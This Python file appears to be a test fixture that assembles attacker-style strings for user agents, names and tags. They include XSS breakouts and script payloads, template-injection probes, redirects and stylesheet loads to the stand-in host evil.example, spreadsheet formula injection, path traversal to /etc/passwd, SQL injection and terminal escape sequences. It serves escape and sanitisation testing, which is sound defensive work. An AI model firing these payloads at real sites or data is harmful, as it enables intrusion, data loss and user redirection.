"""Strings that an attacker may put into user agents, names and tags: ways out of a place in a page, times what to do once out."""

from __future__ import annotations

from itertools import product

SIGN = "__pwned"
# Ends of the places where a value may stand: text, attributes in either quotes or none, comments, titles, scripts, styles, templates.
OUT = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</pre></details>",
    "</td></tr></table>",
    '\\">',
    "\u2028",
    "%22%3E",
    "&quot;&gt;",
    "\r\n\r\n",
)
DO = (
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg/onload=window.__pwned=1>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<body onpageshow=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<a href=javascript:window.__pwned=1 autofocus onfocus=window.__pwned=1>x</a>",
    " onmouseover=window.__pwned=1 style=position:fixed;inset:0 ",
    "<form action=/logout method=post><button autofocus>x",
)
ALONE = (
    "{{7*7}}{{config}}",
    "{% for x in ().__class__.__bases__ %}{{x}}{% endfor %}",
    "${window.__pwned=1}",
    "javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "\u200b\u200d\ufeffzero",
    "\x1b]52;c;cHduZWQ=\x07\x1b[2J",
    "a" * 3000,
    "<" * 400,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "'; DROP TABLE alerts; --",
    "hx-get=/logout hx-trigger=load",
    "<div hx-post=/alerts/look hx-trigger=load>",
    '<p data-graph=\'{"nodes":[],"edges":[]}\'>',
    '"}]}</script><script>window.__pwned=1</script>',
)
STRINGS = (*(out + do for out, do in product(OUT, DO)), *ALONE)
